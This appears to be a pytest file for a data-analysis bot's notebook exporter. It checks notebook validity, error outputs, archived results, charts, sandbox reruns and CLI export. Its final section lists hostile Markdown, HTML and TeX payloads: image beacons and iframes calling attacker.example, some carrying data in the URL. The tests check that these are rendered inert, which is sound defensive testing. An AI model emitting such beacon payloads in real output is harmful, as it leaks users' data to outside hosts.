"""A thread exported as a Jupyter notebook: valid nbformat 4.5, its files, questions, steps
(Python cells, bash and node cell magics) with their outputs and charts, and its answers;
rerun cell by cell in a fresh sandbox kernel it prints what the thread's steps printed."""

from __future__ import annotations

import asyncio
import base64
import dataclasses
import json
import os
import re
import warnings
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from markdown_it import MarkdownIt

from bot.agent.blocks import tool_result
from bot.agent.tools import Toolbox, ToolOutcome
from bot.agent.trim import clear_results
from bot.cli import main
from bot.sandbox.base import ExecResult, Output, Sandbox, SandboxSpec
from bot.sandbox.local import LocalProvider
from bot.sessions.notebook import SETUP_CODE, notebook
from bot.sessions.notebook_store import CHARTS_MAX, saved_charts
from bot.store.base import FileRecord, RunRecord, SessionRecord, ToolCallRecord
from bot.store.sqlite import SqliteStore
from tests.fakes.anthropic import Reply, tool_use
from tests.fakes.anthropic import text as text_block
from tests.support import POPULATION_CSV, file_chunks, local_provider_at, model_in_thread

UPLOAD = "/buddy/work/uploads/population.csv"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16  # enough bytes to tell apart
CELL_ID = re.compile(r"[a-zA-Z0-9_-]{1,64}")  # nbformat 4.5
TOOL_ARGS = {"list_files": "path", "read_file": "path", "check_command": "command_id"}
Step = tuple[str, str, ToolOutcome]  # language (or a tool's name), code, what it returned


class Canned:
    """A sandbox stand-in whose run_code returns a given result: real result formatting
    (the Toolbox's) without running anything."""

    def __init__(self, result: ExecResult) -> None:
        self.result = result

    async def run_code(self, language: str, code: str, timeout_s: float) -> ExecResult:
        return self.result


async def outcome(stdout: str, stderr: str = "", status: str = "ok", code: int = 0) -> ToolOutcome:
    result = ExecResult(status, code, Output(stdout), Output(stderr), 0.1)  # type: ignore[arg-type]
    return await toolbox(Canned(result)).call("run_code", {"language": "python", "code": "x"})


def toolbox(sandbox: Any) -> Toolbox:
    async def get() -> Any:
        return sandbox

    return Toolbox(get, default_timeout_s=30, max_timeout_s=60, output_chars=20_000)


class Thread:
    """The store's records and the conversation of a thread, question by question."""

    def __init__(self) -> None:
        self.runs: list[RunRecord] = []
        self.calls: list[ToolCallRecord] = []
        self.history: list[dict[str, Any]] = []

    def ask(self, question: str, steps: list[Step], answer: str | None, **options: Any) -> None:
        """One run; `options` go into every step's input (detached=True, say)."""
        run_id = f"run{len(self.runs) + 1}"
        self.runs.append(RunRecord("k", run_id, question, len(self.runs), None, "finished"))
        self.history.append({"role": "user", "content": [{"type": "text", "text": question}]})
        for n, (language, code, out) in enumerate(steps, 1):
            call_id = f"toolu_{run_id}_{n}"
            tool, args = "run_code", {"language": language, "code": code}
            if language in ("python", "bash", "node"):
                args |= options
            else:
                tool, args = language, {TOOL_ARGS[language]: code}
            use = {"type": "tool_use", "id": call_id, "name": tool, "input": args}
            said = {"type": "text", "text": f"Step {n} next."}
            self.history.append({"role": "assistant", "content": [said, use]})
            self.history.append({"role": "user", "content": [tool_result(call_id, out)]})
            said_code = code if tool == "run_code" else f"{TOOL_ARGS[tool]}={code}"
            self.calls.append(ToolCallRecord(
                run_id, call_id, tool, language if tool == "run_code" else None, said_code,
                out.status, out.exit_code, out.duration_s, out.excerpt, 0.0,
            ))  # fmt: skip
        if answer is not None:
            reply = [{"type": "thinking", "thinking": "…", "signature": "s"}]
            reply.append({"type": "text", "text": answer})
            self.history.append({"role": "assistant", "content": reply})


def population_file(path: str = UPLOAD) -> FileRecord:
    return FileRecord("F1", "population.csv", 1234, "0" * 64, path, {"id": "F1"})


def validated(book: dict[str, Any]) -> nbformat.NotebookNode:
    """The notebook as nbformat reads it back, after checking it against the schema (what
    nbformat would only warn of and mend, a missing cell id, fails the test)."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        read = nbformat.reads(json.dumps(book), as_version=4)
        nbformat.validate(read)
    ids = [cell["id"] for cell in book["cells"]]
    assert len(set(ids)) == len(ids) and all(CELL_ID.fullmatch(i) for i in ids)
    assert (read.nbformat, read.nbformat_minor) == (4, 5)
    return read


def text(cell: Any) -> str:
    return "".join(cell["source"])


def streams(cell: Any, name: str = "stdout") -> str:
    return "".join("".join(o["text"]) for o in cell["outputs"] if o.get("name") == name)


# -- the notebook's shape --


async def test_a_thread_becomes_a_valid_notebook_of_its_questions_steps_and_answers() -> None:
    thread = Thread()
    thread.ask(
        "How many rows?\nAnd columns?",
        [
            ("python", "import pandas as pd\ndf = pd.read_csv(PATH)\nlen(df)",
             await outcome("30\n")),
            ("bash", "wc -l < /buddy/work/uploads/population.csv", await outcome("31\n")),
            ("node", "console.log('hi')", await outcome("hi\n", "a warning\n")),
            ("list_files", "/buddy/work",
             ToolOutcome("file 1,234  a.csv", False, "ok", excerpt="1 entries")),
        ],
        "There are **30** rows.",
    )  # fmt: skip
    thread.ask("And now?", [], "Nothing more.")
    book = notebook(thread.runs, thread.calls, thread.history, [population_file()])
    read = validated(book)
    assert read.metadata.kernelspec.name == "python3"
    assert read.metadata.language_info.name == "python"
    cells = read.cells
    ids = [c.id for c in cells]
    assert len(set(ids)) == len(ids)

    files, setup, question, py, sh, js, note, answer, question2, answer2 = cells
    assert files.cell_type == "markdown" and f"`{UPLOAD}`" in text(files)
    assert "population.csv" in text(files) and "/buddy/work/out/" in text(files)
    assert setup.cell_type == "code" and text(setup) == SETUP_CODE
    assert "os.makedirs('/buddy/work/out', exist_ok=True)" in text(setup)
    assert setup.execution_count is None and setup.outputs == []
    assert text(question) == "## Question 1\n\n> How many rows?\n> And columns?"
    # The code exactly as run, its source a list of lines
    assert text(py) == "import pandas as pd\ndf = pd.read_csv(PATH)\nlen(df)"
    raw = book["cells"][3]  # as written: nbformat's reader joins the lines
    assert raw["source"] == ["import pandas as pd\n", "df = pd.read_csv(PATH)\n", "len(df)"]
    assert raw["outputs"][0]["text"] == ["30\n"]
    assert text(sh) == "%%bash\nwc -l < /buddy/work/uploads/population.csv"
    assert text(js) == "%%script node\nconsole.log('hi')"
    assert [c.execution_count for c in (py, sh, js)] == [1, 2, 3]
    assert streams(py) == "30\n" and streams(sh) == "31\n"
    assert (streams(js), streams(js, "stderr")) == ("hi\n", "a warning\n")
    assert py.metadata.bot == {
        "call_id": "toolu_run1_1", "status": "ok", "exit_code": 0, "output": "whole"
    }  # fmt: skip
    assert note.cell_type == "markdown" and "list_files" in text(note)
    assert "file 1,234  a.csv" in text(note)
    assert text(answer) == "**Answer:**\n\nThere are **30** rows."  # not the thinking
    assert text(question2) == "## Question 2\n\n> And now?"
    assert text(answer2) == "**Answer:**\n\nNothing more."


async def test_a_failed_python_step_is_an_error_output_and_other_failures_stderr() -> None:
    trace = (
        "Traceback (most recent call last):\n"
        '  File "<cell>", line 1, in <module>\n'
        "NameError: name 'nope' is not defined\n"
    )
    thread = Thread()
    thread.ask(
        "Break it",
        [
            ("python", "print('before')\nnope", await outcome("before\n", trace, "error", 1)),
            ("bash", "exit 3", await outcome("", "bad thing\n", "error", 3)),
            ("python", "import time; time.sleep(99)", await outcome("", "", "timeout", 0)),
        ],
        None,
    )
    thread.runs[0] = RunRecord("k", "run1", "Break it", 0, 1, "failed")
    cells = validated(notebook(thread.runs, thread.calls, thread.history, [])).cells
    py, sh, slow, answer = cells[3:]
    assert streams(py) == "before\n"
    error = py.outputs[-1]
    assert error.output_type == "error"
    assert (error.ename, error.evalue) == ("NameError", "name 'nope' is not defined")
    assert error.traceback == trace.splitlines()
    assert [o.output_type for o in sh.outputs] == ["stream"]  # bash: no exception to show
    assert streams(sh, "stderr") == "bad thing\n"
    assert "timeout" in streams(slow, "stderr")
    assert "failed" in text(answer) and "Answer" not in text(answer)


async def test_a_cleared_output_comes_from_the_archive_or_else_the_excerpt() -> None:
    thread = Thread()
    lines = "".join(f"line {n}\n" for n in range(40))
    thread.ask(
        "Long", [("python", "for n in range(40): print('line', n)", await outcome(lines))], "ok"
    )
    thread.ask("More", [("python", "print('last')", await outcome("last\n"))], "done")
    cleared, count = clear_results(thread.history, keep=1, chars=1)
    assert count == 1 and "[Output cleared" in json.dumps(cleared)
    archive = {"at": 1.0, "reason": "cleared by bot", "messages": thread.history[2:3]}

    with_archive = notebook(thread.runs, thread.calls, cleared, [], archived=[archive])
    step = validated(with_archive).cells[3]
    assert streams(step) == lines and step.metadata.bot.output == "whole"

    without = validated(notebook(thread.runs, thread.calls, cleared, [])).cells[3]
    assert streams(without) == thread.calls[0].excerpt + "\n"  # the last lines only
    assert streams(without).startswith("line 3") and without.metadata.bot.output == "excerpt"


async def test_a_question_cleared_with_the_results_before_it_keeps_its_answer() -> None:
    thread = Thread()
    thread.ask("First", [("python", "print(1)", await outcome("1\n"))], None)  # no answer
    thread.ask("Second", [("python", "print(2)", await outcome("2\n"))], "Two.")
    # The question joined the previous run's last results, as the loop merges a user turn.
    question = thread.history.pop(3)
    thread.history[2]["content"] += question["content"]
    cleared, count = clear_results(thread.history, keep=1, chars=1)
    assert count == 1
    archive = {"at": 1.0, "reason": "cleared by bot", "messages": thread.history[2:3]}
    cells = validated(notebook(thread.runs, thread.calls, cleared, [], archived=[archive])).cells
    shown = [text(c) for c in cells if c.cell_type == "markdown"]
    assert shown[1:] == [
        "## Question 1\n\n> First", "_No answer was recorded (the run's outcome: finished)._",
        "## Question 2\n\n> Second", "**Answer:**\n\nTwo.",
    ]  # fmt: skip
    assert [streams(c) for c in cells if c.cell_type == "code"] == ["", "1\n", "2\n"]


async def test_detached_and_restarted_steps_say_how_they_ran() -> None:
    def started(command: str) -> ToolOutcome:
        said = f"Started in the background as {command}; wait for it with check_command."
        return ToolOutcome(said, False, "running", excerpt=f"command {command}")

    thread = Thread()
    steps = [
        ("python", "work()", started("c1")),
        ("bash", "sleep 9", started("c2")),
        ("check_command", "c1", await outcome("half\n", status="running")),
        ("check_command", "c1", await outcome("half\ndone\n")),
    ]
    thread.ask("Slow", steps, "Later.", detached=True)
    thread.ask("Again", [("python", "x = 1", await outcome(""))], "Clean.", restart=True)
    cells = validated(notebook(thread.runs, thread.calls, thread.history, [])).cells
    py, sh, answer = cells[3:6]
    assert text(py) == "%%script python3\nwork()"  # a process of its own, not the kernel
    assert text(sh) == "%%bash\nsleep 9" and py.metadata.bot.detached
    # Its last check's output, as the cell prints it when rerun; the checks are not steps.
    assert streams(py) == "half\ndone\n" and py.metadata.bot.status == "ok"
    assert streams(sh) == started("c2").content + "\n"  # never checked
    assert text(answer) == "**Answer:**\n\nLater."
    restart, again = cells[7:9]
    assert restart.cell_type == "markdown" and "restarted" in text(restart)
    assert text(again) == "x = 1" and "detached" not in again.metadata.bot


async def test_a_question_in_the_archive_and_the_history_is_shown_once() -> None:
    thread = Thread()
    thread.ask("First", [("python", "1 + 1", await outcome("2\n"))], "Two.")
    thread.ask("Thanks!", [], "Welcome.")
    thread.ask("Third", [("python", "3", await outcome("3\n"))], "Three.")
    archive = {"at": 1.0, "reason": "compacted by server", "messages": list(thread.history)}
    kept = thread.history[3:]  # what the server still reads: from the second question on
    cells = validated(notebook(thread.runs, thread.calls, kept, [], archived=[archive])).cells
    shown = [text(c) for c in cells if c.cell_type == "markdown"]
    assert [t for t in shown if t.startswith("## Question")] == [
        "## Question 1\n\n> First", "## Question 2\n\n> Thanks!", "## Question 3\n\n> Third",
    ]  # fmt: skip
    assert "**Answer:**\n\nWelcome." in shown and "**Answer:**\n\nThree." in shown


async def test_a_run_compacted_midway_is_one_question_with_all_its_steps() -> None:
    thread = Thread()
    steps = [
        ("python", "a = 1", await outcome("")),
        ("python", "print(a + 1)", await outcome("2\n")),
    ]
    thread.ask("Add one", steps, "It is 2.")
    archive = {"at": 1.0, "reason": "compacted by bot", "messages": thread.history[:3]}
    summary = {"type": "text", "text": "Summary: a is 1."}  # no question after it: mid-run
    history = [{"role": "user", "content": [summary]}, *thread.history[3:]]
    cells = validated(notebook(thread.runs, thread.calls, history, [], archived=[archive])).cells
    shown = [text(c) for c in cells]
    assert shown[2:] == ["## Question 1\n\n> Add one", "a = 1", "print(a + 1)",
                         "**Answer:**\n\nIt is 2."]  # fmt: skip


async def test_the_same_words_asked_twice_are_two_questions() -> None:
    thread = Thread()
    for answer in ("Welcome.", "Welcome again."):
        thread.ask("Thanks!", [], answer)
    shown = [text(c) for c in validated(
        notebook(thread.runs, thread.calls, thread.history, [], archived=[
            {"at": 1.0, "reason": "compacted by bot", "messages": thread.history[:2]}
        ])).cells]  # fmt: skip
    assert shown[2:] == [
        "## Question 1\n\n> Thanks!", "**Answer:**\n\nWelcome.",
        "## Question 2\n\n> Thanks!", "**Answer:**\n\nWelcome again.",
    ]  # fmt: skip


async def test_charts_are_png_display_outputs() -> None:
    thread = Thread()
    thread.ask("Plot", [("python", "plt.plot([1, 2])\nplt.show()", await outcome(""))], "A line.")
    book = notebook(
        thread.runs, thread.calls, thread.history, [], images={"toolu_run1_1": [PNG, PNG[::-1]]}
    )
    step = validated(book).cells[3]
    shown = [o for o in step.outputs if o.output_type == "display_data"]
    assert [base64.b64decode(o.data["image/png"]) for o in shown] == [PNG, PNG[::-1]]


async def test_a_compacted_question_is_found_in_the_archive_once() -> None:
    thread = Thread()
    thread.ask("First", [("python", "1 + 1", await outcome("2\n"))], "Two.")
    old = list(thread.history)
    summary = [{"role": "user", "content": [{"type": "text", "text": "Summary: asked 1+1."}]}]
    thread.history = summary
    thread.ask("Second", [("python", "2 + 2", await outcome("4\n"))], "Four.")
    thread.history = [
        {"role": "user", "content": [summary[0]["content"][0], *thread.history[1]["content"]]},
        *thread.history[2:],
    ]  # the next question joins the summary's message, as after a compaction
    archive = {"at": 1.0, "reason": "compacted by bot", "messages": old}
    cells = validated(notebook(thread.runs, thread.calls, thread.history, [], archived=[archive]))
    shown = [text(c) for c in cells.cells if c.cell_type == "markdown"]
    assert shown[1:] == [
        "## Question 1\n\n> First", "**Answer:**\n\nTwo.",
        "## Question 2\n\n> Second", "**Answer:**\n\nFour.",
    ]  # fmt: skip


# -- rerunning it --

SLICE_ROWS = 30
STEPS = [
    ("python", "import csv\nrows = list(csv.DictReader(open(PATH)))\nprint(len(rows), 'rows')"),
    (
        "python",
        "totals = {}\nfor r in rows:\n    totals[r['Year']] = totals.get(r['Year'], 0) + "
        "int(r['Value'])\nfor year in sorted(totals):\n    print(year, totals[year])",
    ),
    (
        "python",
        "top = max((r for r in rows if r['Year'] == '2020'), key=lambda r: int(r['Value']))\n"
        "with open('out/top.txt', 'w') as f:\n"
        "    f.write(f\"{top['Country Name']} {top['Value']}\\n\")\n"
        "top['Country Name']",
    ),
    ("bash", "cat out/top.txt\ntail -n +2 /buddy/work/uploads/population.csv | wc -l"),
    (
        "node",
        "const fs = require('fs');\nconsole.log(fs.readFileSync('out/top.txt', 'utf8').trim())",
    ),
    ("python", "rows[10 ** 6]"),
]


@pytest.fixture
async def provider(sandbox_root: Path) -> AsyncIterator[LocalProvider]:
    made = local_provider_at(sandbox_root)
    yield made
    await made.close()


async def sandbox_with(provider: LocalProvider, name: str, csv: Path) -> Sandbox:
    sandbox = await provider.create(SandboxSpec(session_key=name))
    await sandbox.upload(UPLOAD, file_chunks(csv))
    return sandbox


@pytest.fixture
def population_slice(tmp_path: Path) -> Path:
    lines = POPULATION_CSV.read_text().splitlines(keepends=True)
    path = tmp_path / "population.csv"
    path.write_text("".join(lines[: SLICE_ROWS + 1]))
    return path


async def rerun(
    book: nbformat.NotebookNode, provider: LocalProvider, files: dict[str, Path]
) -> None:
    """Run the notebook's code cells in order in a fresh sandbox with `files` at their
    sandbox paths: Python cells in its kernel, cell magics as their programs; each prints
    what the notebook says it printed, and fails where it failed."""
    fresh = await provider.create(SandboxSpec(session_key="rerun"))
    try:
        for path, local in files.items():
            await fresh.upload(path, file_chunks(local))
        for cell in (c for c in book.cells if c.cell_type == "code"):
            source = text(cell)
            language, body = "python", source
            for magic, name in (("%%bash\n", "bash"), ("%%script node\n", "node")):
                if source.startswith(magic):
                    language, body = name, source.removeprefix(magic)
            again = await fresh.run_code(language, body, 30)  # type: ignore[arg-type]
            assert again.stdout.text == streams(cell), source
            errors = [o for o in cell.outputs if o.output_type == "error"]
            if errors:
                assert again.status == "error"
                assert f"{errors[0].ename}: {errors[0].evalue}" in again.stderr.text
            else:
                assert again.status == "ok", again.stderr.text
    finally:
        await fresh.destroy()


async def test_the_notebook_reruns_cell_by_cell_and_prints_the_same_figures(
    provider: LocalProvider, population_slice: Path
) -> None:
    # The thread: each step run for real, its result formatted as the bot formats it.
    original = await sandbox_with(provider, "thread", population_slice)
    tools, thread = toolbox(original), Thread()
    try:
        done = []
        for language, code in STEPS:
            code = code.replace("PATH", repr(UPLOAD))
            done.append(
                (language, code, await tools.call("run_code", {"language": language, "code": code}))
            )
    finally:
        await original.destroy()
    assert "30 rows" in done[0][2].content and done[-1][2].status == "error"
    thread.ask("Population totals by year, and the largest in 2020?", done, "See above.")
    book = validated(notebook(thread.runs, thread.calls, thread.history, [population_file()]))
    code_cells = [c for c in book.cells if c.cell_type == "code"]
    assert len(code_cells) == 1 + len(STEPS)
    assert "2020 " in streams(code_cells[2])  # the totals were printed, and kept

    await rerun(book, provider, {UPLOAD: population_slice})
    printed = [streams(c) for c in code_cells]
    assert printed[1] == "30 rows\n" and printed[4].endswith("30\n")


# -- the command line --

KEY = "T1:C1:1700000000.000100"


async def stored_thread(path: Path) -> None:
    thread = Thread()
    thread.ask("Count the rows", [("bash", "wc -l < x.csv", await outcome("31\n"))], "31 lines.")
    thread.ask("Thanks!", [], "You're welcome.")  # a run with no steps
    store = SqliteStore(path)
    await store.open()
    try:
        await store.save_session(SessionRecord(KEY, None, "idle", None, 1.0, 2.0))
        await store.add_file(KEY, population_file())
        for run in thread.runs:
            await store.start_run(KEY, run.run_id, run.question, run.started_at)
            for call in (c for c in thread.calls if c.run_id == run.run_id):
                await store.add_tool_call(KEY, call)
            await store.end_run(run.run_id, "finished", run.started_at + 0.5)
        await store.save_history(KEY, thread.history)
    finally:
        await store.close()


@pytest.fixture
def stored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("REDIS_URL", raising=False)
    monkeypatch.setenv("STORE_PATH", str(tmp_path / "sessions.db"))
    asyncio.run(stored_thread(tmp_path / "sessions.db"))
    return tmp_path


def test_export_ipynb_writes_the_threads_notebook(
    stored: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["sessions", "export", "1700000000.000100", "--ipynb"]) == 0
    written = stored / "1700000000.000100.ipynb"
    assert f"Wrote {written.name}" in capsys.readouterr().err
    book = nbformat.read(written, as_version=4)
    nbformat.validate(book)
    shown = [text(c) for c in book.cells]
    assert f"`{UPLOAD}`" in shown[0] and "%%bash\nwc -l < x.csv" in shown
    assert "**Answer:**\n\n31 lines." in shown
    assert "## Question 2\n\n> Thanks!" in shown and "**Answer:**\n\nYou're welcome." in shown

    assert main(["sessions", "export", KEY, "--ipynb", "--out", "-"]) == 0
    assert json.loads(capsys.readouterr().out) == json.loads(written.read_text())
    (stored / "books").mkdir()
    assert main(["sessions", "export", KEY, "--ipynb", "--out", "books/thread.ipynb"]) == 0
    assert (stored / "books" / "thread.ipynb").read_text() == written.read_text()


def test_export_refuses_an_unknown_thread_and_out_without_ipynb(
    stored: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["sessions", "export", "nope", "--ipynb"]) == 1
    assert "No session for 'nope'" in capsys.readouterr().err
    assert main(["sessions", "export", KEY, "--out", "a.ipynb"]) == 2  # JSONL goes to stdout
    assert "--out is for --ipynb" in capsys.readouterr().err
    assert not list(stored.glob("*.ipynb"))


# -- a thread the bot ran, exported and rerun --

TERMINAL_UPLOAD = "/buddy/work/uploads/population_2000_2010_2020.csv"
TOTAL_CODE = (
    "import csv\n"
    f"rows = list(csv.DictReader(open({TERMINAL_UPLOAD!r})))\n"
    "print(sum(int(r['Value']) for r in rows if r['Year'] == '2020'))"
)


def in_terminal(
    monkeypatch: pytest.MonkeyPatch, here: Path, model_url: str, sandbox_root: Path
) -> None:
    """`python -m bot ask` run from `here`, against the fake model and the local sandbox."""
    monkeypatch.chdir(here)
    monkeypatch.delenv("REDIS_URL", raising=False)
    for name, value in {
        "ANTHROPIC_API_KEY": "sk-ant-test-secret",
        "ANTHROPIC_BASE_URL": model_url,
        "SANDBOX_BACKEND": "local",
        "SANDBOX_ROOT": str(sandbox_root),
        "MODEL_RETRY_DELAY_S": "0.01",
    }.items():
        monkeypatch.setenv(name, value)


def analyst(req: Any) -> Reply:
    """Totals 2020 with one Python step, then answers with the figure it printed."""
    if results := req.tool_results():
        total = re.findall(r"^\d+$", results[-1].text, re.MULTILINE)[-1]
        return Reply([text_block(f"The 2020 total is {total}.")])
    return Reply([tool_use("run_code", {"language": "python", "code": TOTAL_CODE})])


def test_a_terminal_session_exports_a_notebook_that_reruns(
    sandbox_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    with model_in_thread(analyst) as fake:
        in_terminal(monkeypatch, tmp_path, fake.base_url, sandbox_root)
        argv = ["ask", "--csv", str(POPULATION_CSV), "--session", "pop", "total for 2020"]
        assert main(argv) == 0, capsys.readouterr()
    assert main(["sessions", "export", "pop", "--ipynb"]) == 0
    book = nbformat.read(tmp_path / "pop.ipynb", as_version=4)
    nbformat.validate(book)
    cells = book.cells
    assert f"`{TERMINAL_UPLOAD}`" in text(cells[0])
    assert text(cells[2]) == "## Question 1\n\n> total for 2020"
    assert text(cells[3]) == TOTAL_CODE and cells[3].execution_count == 1
    total = streams(cells[3]).strip()
    assert total.isdigit() and text(cells[4]) == f"**Answer:**\n\nThe 2020 total is {total}."

    async def again() -> None:
        provider = local_provider_at(sandbox_root)
        try:
            await rerun(book, provider, {TERMINAL_UPLOAD: POPULATION_CSV})
        finally:
            await provider.close()

    asyncio.run(again())


CHART_CODE = (
    "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\n"
    "plt.bar(['2000', '2020'], [6.1, 7.8])\nplt.savefig('/buddy/work/out/world.png')\n"
    "print('saved')"
)


def charting(req: Any) -> Reply:
    if req.tool_results():
        return Reply([text_block("The chart of world population is saved as world.png.")])
    return Reply([tool_use("run_code", {"language": "python", "code": CHART_CODE})])


def test_a_terminal_sessions_notebook_shows_the_charts_ask_saved(
    sandbox_root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:  # fmt: skip
    with model_in_thread(charting) as fake:
        in_terminal(monkeypatch, tmp_path, fake.base_url, sandbox_root)
        argv = ["ask", "--session", "world", "--out", "saved", "plot the world"]
        assert main(argv) == 0, capsys.readouterr()
    png = (tmp_path / "saved" / "world.png").read_bytes()
    assert main(["sessions", "export", "world", "--ipynb", "--charts", "saved"]) == 0
    assert main(["sessions", "export", "world", "--ipynb", "--out", "bare.ipynb"]) == 0

    step = next(c for c in validated(nbformat.read("world.ipynb", 4)).cells if "plt.bar" in text(c))
    shown = [o for o in step.outputs if o.output_type == "display_data"]
    assert [base64.b64decode(o.data["image/png"]) for o in shown] == [png]
    bare = validated(nbformat.read("bare.ipynb", 4))  # here, no chart was saved
    assert not [o for c in bare.cells if c.cell_type == "code" for o in c.outputs if "data" in o]


async def test_charts_for_a_notebook_are_png_files_read_without_following_links(
    tmp_path: Path,
) -> None:
    (tmp_path / "host.png").write_bytes(PNG + b"a host file")
    (tmp_path / "saved").mkdir()
    saved = tmp_path / "saved"
    (saved / "ok.png").write_bytes(PNG + b"drawn")
    (saved / "link.png").symlink_to(tmp_path / "host.png")
    os.mkfifo(saved / "fifo.png")  # would block a plain read for ever
    (saved / "fake.png").write_bytes(b"GIF89a not a png")
    (saved / "huge.png").write_bytes(PNG + bytes(6 << 20))
    names = ["ok.png", "link.png", "fifo.png", "fake.png", "huge.png", "missing.png"]
    code = "\n".join(f"plt.savefig('/buddy/work/out/{name}')" for name in names)
    call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)

    assert await saved_charts(saved, [call]) == {"ok.png": PNG + b"drawn"}
    assert await saved_charts(saved, [dataclasses.replace(call, code="print(1)")]) == {}


async def test_charts_missing_from_the_folder_do_not_crowd_out_one_saved(tmp_path: Path) -> None:
    (tmp_path / "real.png").write_bytes(PNG + b"drawn")
    missing = [f"gone{n}.png" for n in range(CHARTS_MAX + 5)]
    code = "\n".join(f"plt.savefig('/buddy/work/out/{name}')" for name in [*missing, "real.png"])
    call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)

    assert await saved_charts(tmp_path, [call]) == {"real.png": PNG + b"drawn"}


async def test_the_charts_taken_are_capped_by_those_found(tmp_path: Path) -> None:
    names = [f"c{n}.png" for n in range(CHARTS_MAX + 3)]
    for name in names:
        (tmp_path / name).write_bytes(PNG + name.encode())
    code = "\n".join(f"plt.savefig({name!r})" for name in names)
    call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)

    assert list(await saved_charts(tmp_path, [call])) == names[:CHARTS_MAX]


# -- hostile Markdown: nothing in the notebook fetches from the web when it is opened

HOSTILE = [
    "![rows](https://attacker.example/p.png?d=1402617695)",
    "![a [nested] alt](https://attacker.example/nested.png)",
    '![t](<https://attacker.example/spaced name.png> "title")',
    "![ref][chart]\n\n[chart]: https://attacker.example/ref.png",
    "![collapsed][]\n\n[collapsed]: https://attacker.example/collapsed.png",
    '<img src="https://attacker.example/img.png?d=rows">',
    "<IMG SRC=https://attacker.example/upper.png>",
    '<div style="background:url(https://attacker.example/bg.png)">x</div>',
    "<svg><image href='https://attacker.example/svg.png'/></svg>",
    "<!-- a comment --><iframe src=https://attacker.example/frame></iframe>",
    "text\n<picture><source srcset=https://attacker.example/src.png></picture>",
    "$\\style{background:url(https://attacker.example/tex.png)}{x}$",
]


def fetches(markdown: str) -> list[str]:
    """What opening the Markdown would fetch or run: images (inline, by reference), raw
    HTML tags, TeX (Jupyter's math starts at a dollar sign), as a CommonMark reader sees them."""
    found: list[str] = []
    tokens = MarkdownIt("commonmark").parse(markdown)
    for token in tokens:
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type in ("image", "html_inline"):
                found.append(str(child.attrs.get("src") or child.content))
    return found + [m for m in re.findall(r"(?<!\\)\$[^$]+\$", markdown)]


async def test_hostile_markdown_is_shown_as_text_and_fetches_nothing() -> None:
    thread = Thread()
    steps: list[Step] = [
        ("python", "print('<img src=https://attacker.example/out.png>')",
         await outcome("<img src=https://attacker.example/out.png>\n")),
        ("list_files", "/buddy/work",
         ToolOutcome("```\n<img src=https://attacker.example/note.png>", False, "ok",
                     excerpt="1 entries")),
    ]  # fmt: skip
    thread.ask("Show <img src=https://attacker.example/q.png> me", steps, "\n\n".join(HOSTILE))
    name = "a`<img src=https://attacker.example/f.png>`.csv"
    hostile_file = dataclasses.replace(population_file(), name=name)
    read = validated(notebook(thread.runs, thread.calls, thread.history, [hostile_file]))

    first = read.cells[0]
    assert first.cell_type == "markdown"
    assert "written by a model" in text(first) and "sandbox" in text(first)
    for cell in read.cells:
        if cell.cell_type == "markdown":
            assert fetches(text(cell)) == [], text(cell)
        for out in cell.get("outputs", []):  # text outputs only, shown as text
            assert set(out.get("data", {})) <= {"image/png", "text/plain"}
    answer = text(read.cells[-1])
    assert "_[an image left out: rows]_" in answer and "1402617695" not in answer
